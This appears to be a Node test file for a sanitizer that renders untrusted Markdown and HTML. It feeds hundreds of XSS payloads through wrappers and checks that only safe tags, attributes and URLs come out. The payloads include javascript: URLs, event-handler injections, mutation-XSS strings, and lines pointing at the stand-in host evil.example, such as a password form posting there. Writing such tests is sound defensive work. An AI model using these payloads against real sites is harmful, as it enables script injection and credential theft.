import assert from 'node:assert/strict';
import { test } from 'node:test';
import { htmlToHast, type HastNode } from 'satteri';
import { renderUntrusted } from '../../../src/markdown/untrusted.ts';

const addresses = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  '\u0001javascript:alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A;&#x61;vascript:alert(1)',
  'javascript&colon;alert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:image/svg+xml;base64,PHN2Zz4=',
  'blob:https://a/b',
  'file:///etc/passwd',
  'view-source:javascript:alert(1)',
  '//evil.example/x',
  '\\\\evil.example\\x',
  '/\\evil.example',
  'https://user:pass@evil.example/',
  'feed:javascript:alert(1)',
];

const elements = [
  '<script>alert(1)</script>',
  '<script src=//evil.example/x.js></script>',
  '<SCRIPT>alert(1)</SCRIPT>',
  '<scr<script>ipt>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror="alert`1`"//',
  '<img/src="https://evil.example/pixel.gif">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math href="javascript:alert(1)">x</math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="https://evil.example"><input name=password></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<p style="background:url(https://evil.example)">x</p>',
  '<div style="position:fixed;inset:0">x</div>',
  '<a href="x" onclick=alert(1)>x</a>',
  '<a href="x" target=_top ping="https://evil.example">x</a>',
  '<a id=location name=cookie>x</a>',
  '<code class="language-js fixed inset-0">x</code>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<textarea></textarea><script>alert(1)</script>',
  '<title></title><script>alert(1)</script>',
  '<plaintext><script>alert(1)</script>',
  '<xmp><script>alert(1)</script></xmp>',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?php echo 1 ?><script>alert(1)</script>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<table background="javascript:alert(1)"><tr><td>x',
  '<x-element onclick=alert(1)>x</x-element>',
  '<select><option onclick=alert(1)>x</select>',
  '</p></div></main></body><script>alert(1)</script>',
  '<li><td><tr></table></ul><img src=x onerror=alert(1)>',
];

const wrappings: readonly ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `[text](${payload})`,
  (payload) => `[text](<${payload}>)`,
  (payload) => `![text](${payload})`,
  (payload) => `<${payload}>`,
  (payload) => `[text]: ${payload}\n\n[text] ![text]`,
  (payload) => `- item ${payload}\n  > quote ${payload}`,
  (payload) => `| a | b |\n| - | - |\n| ${payload} | x |`,
  (payload) => `# ${payload}\n\n**${payload}**`,
  (payload) => `\`${payload}\`\n\n\`\`\`${payload}\n${payload}\n\`\`\``,
  (payload) => `<a href="${payload}">x</a> <a href=${payload}>x</a>`,
  (payload) => `<p title="${payload}">\n\n${payload}`,
  (payload) => `<img alt="${payload}" src="${payload}">`,
];

const allowedElements = new Set(
  (
    'a abbr b blockquote br caption code dd del details dl dt em h3 h4 h5 h6 hr i ins kbd li mark ol p pre q s ' +
    'samp small strong sub summary sup table tbody td tfoot th thead tr u ul var'
  ).split(' '),
);
const allowedAttributes = new Set(['a href', 'a rel', 'code className', 'ol start']);

function listFaults(node: HastNode): string[] {
  if (node.type === 'comment' || node.type === 'raw') return [node.type];
  if (node.type !== 'element' && node.type !== 'root') return [];
  const inner = (node.children as readonly HastNode[]).flatMap(listFaults);
  if (node.type === 'root') return inner;
  const { tagName, properties } = node;
  const faults = allowedElements.has(tagName) ? [] : [`<${tagName}>`];
  for (const [name, value] of Object.entries(properties)) {
    if (!allowedAttributes.has(`${tagName} ${name}`)) faults.push(`${tagName}[${name}]`);
    if (name !== 'href') continue;
    const { protocol, host, username } = new URL(String(value), 'https://docs.example/');
    const isOurs = ['http:', 'https:', 'mailto:', 'tel:'].includes(protocol);
    const isHidden = host === 'evil.example' && !/^https?:/i.test(String(value));
    if (!isOurs || isHidden || username !== '') faults.push(`href ${String(value)}`);
  }
  return [...faults, ...inner];
}

test('only allowed elements, attributes and URLs come out of any payload', () => {
  const payloads = [...addresses, ...elements, ...elements.map((html) => html.toUpperCase())];
  const inputs = payloads.flatMap((payload) => wrappings.map((wrap) => wrap(payload)));
  assert.ok(inputs.length > 1000);
  const failures = inputs.flatMap((input) => {
    const html = renderUntrusted(input);
    const faults = listFaults(htmlToHast(`<div>${html}</div>`, { fragment: true })).filter(
      (fault) => fault !== '<div>',
    );
    return faults.length === 0 ? [] : [{ input, html, faults }];
  });
  assert.deepEqual(failures, []);
});

test('the output stays inside the element that contains it', () => {
  for (const payload of elements) {
    const html = renderUntrusted(payload);
    const tree = htmlToHast(`<ul><li><div>${html}</div></li></ul><hr>`, { fragment: true });
    const outer = 'children' in tree ? tree.children : [];
    const names = outer.map((node) => (node.type === 'element' ? node.tagName : node.type));
    assert.deepEqual(names, ['ul', 'hr'], payload);
  }
});

test('ordinary Markdown and ordinary HTML are kept', () => {
  assert.equal(
    renderUntrusted('Use **this** and `that`, see [docs](https://example.com/a?b=1&c=2).'),
    '<p>Use <strong>this</strong> and <code>that</code>, see <a href="https://example.com/a?b=1&amp;c=2" rel="nofollow noopener noreferrer">docs</a>.</p>',
  );
  assert.equal(renderUntrusted('<p>One<br>two</p>'), '<p>One<br>two</p>');
  assert.equal(
    renderUntrusted('- [x] done\n- [ ] open'),
    '<ul><li>☑ done</li><li>☐ open</li></ul>',
  );
  assert.equal(
    renderUntrusted('```json\n{"a": "<b>"}\n```'),
    '<pre><code class="language-json">{&quot;a&quot;: &quot;&lt;b&gt;&quot;}\n</code></pre>',
  );
});

test('words in angle brackets that are not tags are text', () => {
  assert.equal(
    renderUntrusted('🎉 List<User> of `<b>` the <tenant>. Id: <id>, <b>bold</b>.\n\n<id>'),
    '<p>🎉 List&lt;User&gt; of <code>&lt;b&gt;</code> the &lt;tenant&gt;. Id: &lt;id&gt;, <b>bold</b>.</p>\n<p>&lt;id&gt;</p>',
  );
  assert.equal(renderUntrusted('A <wrap>closed</wrap> one.'), '<p>A closed one.</p>');
});

test('headings are ranked below those of the page, and images become links', () => {
  assert.equal(renderUntrusted('# Title'), '<h3>Title</h3>');
  assert.equal(renderUntrusted('# Title', { topLevel: 2 }), '<h2>Title</h2>');
  assert.equal(
    renderUntrusted('### Part\n\n> #### Inner\n\n### Other', { topLevel: 2 }),
    '<h2>Part</h2>\n<blockquote>\n<h3>Inner</h3>\n</blockquote>\n<h2>Other</h2>',
  );
  assert.equal(
    renderUntrusted('![Logo](https://example.com/a.png)'),
    '<p><a href="https://example.com/a.png" rel="nofollow noopener noreferrer">Logo</a></p>',
  );
});

test('endlessly nested or very long text does no harm', () => {
  for (const mark of ['<b>', '<div>', '> ', '- ', '[', '*', '<details>']) {
    assert.ok(renderUntrusted(mark.repeat(20_000)).length < 1_000_000);
  }
  assert.ok(!renderUntrusted(`a${'😀'.repeat(200_000)}`).includes('\ufffd'));
});

test('fragments of the document become links if they can be resolved, and nothing else does', () => {
  const asked: string[] = [];
  const resolveLink = (fragment: string) => {
    asked.push(fragment);
    return fragment === '#tag/pets' ? '/zoo/?a&b#tag-"pets"' : undefined;
  };
  const written =
    '[a](#tag/pets) [b](#other) [c](javascript:alert(1)) ![d](#tag/pets) <a href="#x">e</a>';
  assert.equal(
    renderUntrusted(written, { resolveLink }),
    '<p><a href="/zoo/?a&amp;b#tag-&quot;pets&quot;">a</a> b c d e</p>',
  );
  assert.deepEqual(asked, ['#tag/pets', '#other', '#x']);
  assert.equal(renderUntrusted(written), '<p>a b c d e</p>');
});

test('callouts of pages and of GitHub are rendered as callouts or as quotations', () => {
  const formatRemark = (kind: string, inner: string) => `<div>${kind}: ${inner}</div>`;
  const draw = (text: string) => renderUntrusted(text, { formatRemark });
  assert.equal(
    draw('<Note>\n  Desc **y**.\n</Note>'),
    '<div>note: <p>Desc <strong>y</strong>.</p></div>',
  );
  assert.equal(draw('> [!CAUTION]\n> Hot.'), '<div>danger: <p>Hot.</p></div>');
  assert.equal(draw('> [!tip]\n> **a** b'), '<div>tip: <p><strong>a</strong> b</p></div>');
  assert.equal(draw('<Callout>x</Callout>'), '<div>: <p>x</p></div>');
  assert.equal(draw('> [!odd]\n> x'), '<blockquote>\n<p>[!odd]\nx</p>\n</blockquote>');
  assert.equal(
    renderUntrusted('<Card title="A">\n  **x**\n</Card>'),
    '<p><strong>A</strong></p>\n<p><strong>x</strong></p>',
  );
  const hostile = draw(
    '<Note title="<img src=x onerror=alert(1)>">\n<script>a</script>{1+1}\n</Note>',
  );
  assert.doesNotMatch(hostile, /<img|<script|onerror/);
});
